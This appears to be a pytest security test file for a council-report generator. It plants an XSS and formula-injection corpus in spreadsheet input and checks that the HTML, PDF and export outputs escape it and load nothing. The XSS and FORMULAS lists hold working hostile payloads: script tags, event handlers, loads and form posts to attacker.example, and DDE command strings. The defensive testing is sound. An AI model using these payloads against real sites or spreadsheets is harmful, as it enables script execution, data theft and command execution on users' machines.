"""Spreadsheet text is untrusted: an XSS and formula-injection corpus placed in every text
column of a plan (and its sheet name, file name and the pack's title), rendered once through
real packs with the shipped notebooks, must come out escaped or sanitised in the HTML and the
PDF, fetch nothing, run nothing in Chromium, and be neutralised in the CSV/xlsx export."""
from __future__ import annotations

import csv
import html
import re
import shutil
import socket
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from browser import CHROMIUM
from conftest import REPO, write_pack
from pypdf import PdfReader
from workbooks import TRACKER_HEADER, TRACKER_LAYOUT, write_xlsx

from reportlib.analysis.plans import load_plans
from reportlib.cli import main
from reportlib.present.htmlreport import CSP, external_loads, pack_links

pytestmark = pytest.mark.slow  # renders packs, starts kernels, browsers or processes

JS = "document.title='PWNED'"
OUT = "http://attacker.example"  # .example never resolves
XSS = [  # each would, if live, run JS (title PWNED, console error) or fetch from attacker.example
    f"<script>{JS}</script>", "<ScRiPt>console.error('PWNED')</sCrIpT>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'<img src=x onerror="{JS}">', f'<body onload="{JS}">', "<svg onload=console.error('PWNED')>",
    f'<a href="javascript:{JS}">js link</a>',
    f'<a href="jav&#x09;ascript:{JS}">tab link</a> <a href=" JaVaScRiPt:console.error(1)">case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQnPC9zY3JpcHQ+">data link</a>',
    f'<svg><script>{JS}</script><image href="{OUT}/svg.png"/></svg>', f'<iframe src="{OUT}/frame"></iframe>',
    f'<object data="{OUT}/obj"></object><embed src="{OUT}/embed">',
    f"<style>@import url({OUT}/import.css); body {{ background: url({OUT}/bg.png) }}</style>",
    f"<p style=\"background-image:url('{OUT}/inline.png')\">styled</p>", f"<link rel=stylesheet href={OUT}/sheet.css>",
    f'<meta http-equiv="refresh" content="0;url={OUT}/refresh">', f'<base href="{OUT}/">',
    f'<form action="{OUT}/steal"><input name=q autofocus onfocus="{JS}"><button>Go</button></form>',
    f'<img src="{OUT}/pixel.gif" srcset="{OUT}/pixel2.gif 2x" alt="pixel">',
    f'<a href="{OUT}/phish" target="_blank" onclick="{JS}">outside link</a>',
    '<a href="//attacker.example/share">protocol-relative</a> <a href="\\\\attacker.example\\share">UNC</a>',
    "TPL{{7*7}}END ${7*7} #{7*7} <%= 7*7 %>", f'<!--><img src=x onerror="{JS}">-->',
    f"<![CDATA[<script>{JS}</script>]]>", f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"</td></tr></table><script>{JS}</script>", f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    "<noscript><p title=\"</noscript><img src=x onerror=console.error('PWNED')>\">",
]
FORMULAS = ['=HYPERLINK("http://attacker.example/x","click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1 tab", "\r=1+1 cr", "'=1+1 quoted"]
PAYLOADS = XSS + FORMULAS
SHEET = "<svg onload=console.error(1)>"  # a sheet name: at most 31 characters, no "/"
WORKBOOK = "tracker <img src=x onerror=console.error('PWNED')>.xlsx"
TITLE = "Plan </title><script>console.error('TITLE')</script> \"quoted\" {{7*7}}"
COMMITTEE = f'Audit <img src=x onerror="{JS}"> \\ "Committee"'
# Every payload in every column makes long reports (the data-quality PDF runs to about 50 pages):
# the packs get the production default time limit, not the sample pack's 120 s, so a loaded machine
# does not stop them half way.
PACKS = {"xss-external": ("external", ["council_progress", "data_quality", "compare_councils"],
                          {"title": "Plans", "timeout": 600}),
         "xss-internal": ("internal", ["council_progress"], {"title": TITLE, "committee": COMMITTEE, "timeout": 600})}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def plan_rows() -> list[list]:
    """Payload i + k in text column k of row i (every column but Ref, which must stay unique), so every
    payload reaches every text column; a second block has real targets and updates, so the overdue and
    changes tables hold payloads too."""
    n, rows = len(PAYLOADS), []
    for i in range(n):
        rows.append([f"X{i}"] + [PAYLOADS[(i + k) % n] for k in range(len(TRACKER_HEADER) - 1)])
    for i in range(n):
        rows.append([f"Y{i}", "KLOE 2.1", PAYLOADS[i], PAYLOADS[(i + 1) % n], PAYLOADS[(i + 2) % n], "High",
                     "March 2010", None, "Complete" if i % 2 else "Work has started", PAYLOADS[(i + 3) % n], None])
    return rows


@dataclass
class Rendered:
    root: Path
    reports: Path
    fetched: list  # every URL WeasyPrint asked its fetcher for
    lookups: list  # every host name looked up in this process while rendering

    def files(self, suffix: str) -> list[Path]:
        return sorted(self.reports.glob(f"xss-*/*/*{suffix}"))

    def text(self, pack: str, stem: str) -> str:
        """What a reader sees of one report, white space collapsed."""
        html = (self.reports / pack / "2010-07-31" / f"{stem}.html").read_text(encoding="utf-8")
        return " ".join(" ".join(Walker(html).text).split())


INSTALLED = "(the recording fetcher was installed)"


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> Rendered:
    from reportlib.present import pdf
    from reportlib.run.render import render_packs

    root = tmp_path_factory.mktemp("xss") / "repo"
    (root / "data").mkdir(parents=True)
    (root / "data" / "tracker.layout.yaml").write_text(TRACKER_LAYOUT)
    title = [[f"Testshire tracker <script>{JS}</script>"], [None], [None]]
    write_xlsx(root / "data" / WORKBOOK, {SHEET: title + [TRACKER_HEADER] + plan_rows()})
    shutil.copytree(REPO / "notebooks", root / "notebooks")
    for pack, (audience, stems, extra) in PACKS.items():
        write_pack(root, pack, audience=audience, data=[f"data/{WORKBOOK}"], council="Testshire District Council",
                   **extra,
                   notebooks=[{"notebook": f"notebooks/{s}.ipynb", "parameters": {"council_code": "TDC"}
                               if s == "council_progress" else {}} for s in stems])
    # the PDF and HTML stages run in child processes: what they fetch or look up is noted in files
    fetch_log, lookup_log = root / "fetched.log", root / "lookups.log"

    def note(log: Path, line: str) -> None:
        with open(log, "a", encoding="utf-8") as handle:
            handle.write(line.replace("\n", " ") + "\n")

    def recording_fetcher(real=pdf._data_only_fetcher):  # the real data:-only fetcher, noting each URL
        inner = real()
        note(fetch_log, INSTALLED)  # so an empty log cannot pass for a fetcher never put in place
        if not hasattr(inner, "fetch"):  # WeasyPrint < 66: a function
            return lambda url, *args: note(fetch_log, url) or inner(url, *args)
        fetch, inner.fetch = inner.fetch, lambda url, *args, **kw: note(fetch_log, url) or fetch(url, *args, **kw)
        return inner

    def getaddrinfo(host, *args, real=socket.getaddrinfo, **kwargs):
        if host not in ("localhost", "127.0.0.1", "::1", None):
            note(lookup_log, str(host))
        return real(host, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pdf, "_data_only_fetcher", recording_fetcher)
        patch.setattr(socket, "getaddrinfo", getaddrinfo)
        results = render_packs(sorted((root / "params").glob("*.yaml")), reports_dir=root / "reports",
                               show_progress=False)
    assert [r.ok for r in results] == [True] * len(PACKS), [r.error for r in results]
    fetched = fetch_log.read_text().splitlines() if fetch_log.exists() else []
    lookups = lookup_log.read_text().splitlines() if lookup_log.exists() else []
    return Rendered(root, root / "reports", fetched, lookups)


ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "main", "footer", "div", "p", "h1",
                "h2", "h3", "a", "table", "caption", "thead", "tbody", "tr", "th", "td", "br", "ul", "ol", "li",
                "strong", "em", "b", "i", "small", "img", "figure", "figcaption", "dl", "dt", "dd", "code", "span",
                "nav"}


class Walker(HTMLParser):
    """Every start tag with its attributes, and the text a reader sees."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def live_markup(html: str, relative_links: bool = False, pack_links=()) -> list[str]:
    """Every tag or attribute that could run code, load or send anything, or lead off the page
    other than an http(s)/mailto link with rel="noopener noreferrer" (or, for the index, a
    relative link to a pack's file; for a report, exactly the links to its pack's files in
    ``pack_links``), and every meta but the report's own Content-Security-Policy in its head."""
    found, head = [], True
    for tag, attrs in Walker(html).tags:
        where = f"<{tag} {attrs}>"
        head = head and tag != "body"
        if tag not in ALLOWED_TAGS or (tag == "style" and not head):  # the template's styles are in <head>
            found.append(f"tag {where}")
        policy = head and attrs.get("http-equiv") == "Content-Security-Policy" and attrs.get("content") == CSP
        if tag == "meta" and set(attrs) - {"charset", "name", "content"} and not policy:
            found.append(f"meta {where}")
        for name, value in attrs.items():
            value = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name.startswith("on") or name in ("srcset", "action", "formaction", "background", "target"):
                found.append(f"attribute {name} in {where}")
            elif name == "style" and (tag != "img" or re.search(r"url\(|@import|expression|\\", value)):
                found.append(f"style in {where}")  # the template sizes its chart images, nothing else
            elif name == "src" and not value.startswith("data:image/"):
                found.append(f"src in {where}")
            elif name == "href" and not value.startswith("#"):
                if tag == "a" and value.startswith(("http://", "https://", "mailto:")):
                    if attrs.get("rel") != "noopener noreferrer":
                        found.append(f"link without rel=noopener noreferrer: {where}")
                elif tag == "a" and attrs.get("href") in pack_links:
                    continue
                elif not (relative_links and tag == "a" and not re.match(r"[a-z][a-z0-9+.-]*:|[/\\]", value)):
                    found.append(f"href in {where}")
    return found


def test_corpus_covers_every_kind_of_payload():
    kinds = ["<script", "<ScRiPt", "<scr<script>", "onerror=", "<body onload", "<svg onload", "javascript:",
             "jav&#x09;ascript:", "data:text/html", "<svg><script", "<iframe", "<object", "<embed", "@import",
             "style=", "<link", "http-equiv", "<base", "<form", "{{7*7}}", "${7*7}", "<!--", "CDATA", "//attacker",
             "=HYPERLINK", "+cmd", "@SUM", "-2+3", "\t=", "\r="]
    assert len(XSS) >= 15 and [k for k in kinds if not any(k in p for p in PAYLOADS)] == []
    assert [p for p in XSS if not any(w in p for w in ("PWNED", "attacker.example", "base64", "7*7"))] == []


def test_the_walk_catches_live_markup():
    page = "<html><head><style></style></head><body>{}</body></html>"
    assert live_markup(page.format("<p>safe &lt;script&gt;</p>")) == []
    assert live_markup(page.format('<a href="x.html">pack</a>'), relative_links=True) == []
    assert live_markup(page.format('<a href="x.html">pack</a>'), pack_links={"x.html"}) == []
    assert live_markup(page.format('<a href="y.html">pack</a>'), pack_links={"x.html"})
    assert live_markup(page.format(f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'))  # not in head
    for payload in [p for p in XSS if "7*7" not in p and not p.startswith(("&lt;", "<!--", "<![CDATA"))]:
        assert live_markup(page.format(payload)), payload


def test_html_holds_no_live_payload_and_loads_nothing(rendered):
    htmls = rendered.files(".html")
    assert len(htmls) == sum(len(stems) for _, stems, _ in PACKS.values())
    for html_file in htmls + [rendered.reports / "index.html"]:
        html = html_file.read_text(encoding="utf-8")
        stems = next((stems for pack, (_, stems, _) in PACKS.items() if html_file.parent.parent.name == pack), [])
        links = {href for _, href in pack_links(stems, html_file.stem, ("html", "pdf"))}
        assert live_markup(html, relative_links=html_file.name == "index.html", pack_links=links) == [], html_file
        assert external_loads(html) == [], html_file
        assert "<script" not in html.lower(), html_file


def test_plain_columns_show_the_payload_text_escaped(rendered):
    progress, quality = rendered.text("xss-internal", "council_progress"), rendered.text("xss-external", "data_quality")
    actions = load_plans(rendered.root / "data").actions
    for column in ("owner", "priority", "target_text"):  # shown as written, escaped
        assert actions[column].nunique() >= len(PAYLOADS) - 1, column
        for value in actions[column].dropna().unique():
            assert " ".join(value.split()) in progress, (column, value)
    for payload in PAYLOADS:  # the KLOE cells, quoted in the data-quality findings
        assert " ".join(payload.split()) in quality, payload
    assert SHEET in quality and WORKBOOK in quality and WORKBOOK in progress
    assert " ".join(TITLE.split()) in progress and COMMITTEE in progress
    html = (rendered.reports / "xss-internal" / "2010-07-31" / "council_progress.html").read_text()
    assert "&lt;script&gt;document.title='PWNED'&lt;/script&gt;" in html and "&amp;lt;script&amp;gt;" in html
    assert "TPL{{7*7}}END" in progress and "${7*7}" in progress and "TPL49END" not in progress


def test_pdf_shows_the_text_and_fetched_nothing(rendered):
    pdfs = rendered.files(".pdf")
    assert len(pdfs) == len(rendered.files(".html"))
    # the data:-only fetcher was in place for every PDF; charts reach WeasyPrint from its image cache
    # (present/pdfimages), so it may be asked for nothing at all, and never for anything but data:
    assert rendered.fetched.count(INSTALLED) >= len(pdfs)
    assert [u for u in rendered.fetched if u != INSTALLED and not u.startswith("data:")] == []
    assert rendered.lookups == []
    for pdf_file in pdfs:
        reader = PdfReader(pdf_file)
        text = "".join("".join(page.extract_text() for page in reader.pages).split())
        assert "TPL{{7*7}}END" in text and "TPL49END" not in text, pdf_file
        assert "<svgonload=console.error('PWNED')>" in text, pdf_file
        actions = [a.get_object().get("/A", {}) for page in reader.pages for a in page.get("/Annots", [])]
        assert {a.get("/S") for a in actions} <= {"/URI", "/GoTo", None}, pdf_file  # no /JavaScript, /Launch
        assert [a["/URI"] for a in actions if not a.get("/URI", "https:").startswith(("http", "mailto:"))] == []
    assert "<script>document.title='PWNED'</script>" in text  # the last: xss-internal's progress report
    assert "".join(COMMITTEE.split()) in text  # in its running header, a CSS string


def test_export_neutralises_formulas_and_keeps_the_text(rendered, tmp_path):
    assert main(["export", str(rendered.root / "data"), "--out", str(tmp_path)]) == 0
    plans, written = load_plans(rendered.root / "data"), set()
    for name, frame in (("actions", plans.actions), ("updates", plans.updates)):
        with open(tmp_path / f"{name}.csv", encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert len(rows) == len(frame)
        for row, original in zip(rows, frame.to_dict("records")):
            for column, value in row.items():
                assert not value.startswith(TRIGGERS), (name, column, value)
                if isinstance(original[column], str):
                    assert (value[1:] if value.startswith("'") else value) == original[column]
                    written.add(value)
    assert {"'" + f.strip() for f in FORMULAS} <= written  # loading strips the leading tab and CR
    for xlsx in [tmp_path / "plans.xlsx"] + rendered.files("tables.xlsx"):
        cells = [c for sheet in openpyxl.load_workbook(xlsx).worksheets for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], xlsx
        assert {f.strip() for f in FORMULAS} <= {c.value for c in cells if c.data_type == "s"}, xlsx


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install chromium)")
def test_reports_run_nothing_and_fetch_nothing_in_chromium(browser, rendered):  # noqa: F811
    for report in rendered.files(".html") + [rendered.reports / "index.html"]:
        assert browser.open(report.as_uri()) == [], report
        title = browser.call("Runtime.evaluate", expression="document.title")["result"]["value"]
        written = html.unescape(re.search(r"<title>(.*?)</title>", report.read_text(), re.S).group(1))
        assert title == " ".join(written.split()), report  # nothing ran to change it
